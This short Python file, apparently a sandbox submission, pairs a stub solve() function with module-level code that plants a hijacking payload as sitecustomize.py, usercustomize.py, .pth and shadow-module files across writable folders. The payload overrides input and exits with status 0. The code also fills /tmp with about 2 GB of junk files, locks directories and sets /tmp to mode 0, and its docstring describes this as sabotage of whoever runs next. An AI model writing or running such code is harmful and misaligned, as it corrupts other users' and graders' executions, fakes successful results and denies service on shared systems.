"""Leaves modules, settings and a full disk in every folder that it may write to, for whoever runs next in this box."""

import os

PLANTED = "import builtins, sys\nbuiltins.input = lambda *a: '0'\nprint('planted')\nsys.exit(0)\n"
for folder in (
    "/tmp", "/tmp/run", "/tmp/.local/lib/python3.11/site-packages", "/tmp/.local/lib/python3.12/site-packages", "/dev/shm", "..",
    os.path.expanduser("~/.config/matplotlib"), os.path.expanduser("~/.config/pip"),
):
    for name in ("sitecustomize.py", "usercustomize.py", "colorsys.py", "wave.py", "a.pth", "matplotlibrc"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write(PLANTED)
        except OSError:
            pass
for i in range(2000):
    try:
        with open(f"/tmp/full-{i}", "wb") as file:
            file.truncate(0)
            file.write(bytes(1 << 20))
    except OSError:
        break
try:
    os.makedirs("/tmp/locked/deep")
    os.chmod("/tmp/locked/deep", 0)
    os.chmod("/tmp/locked", 0)
    os.symlink("/etc", "/tmp/elsewhere")
    os.chmod("/tmp", 0)
except OSError:
    pass


def solve(x):
    return None
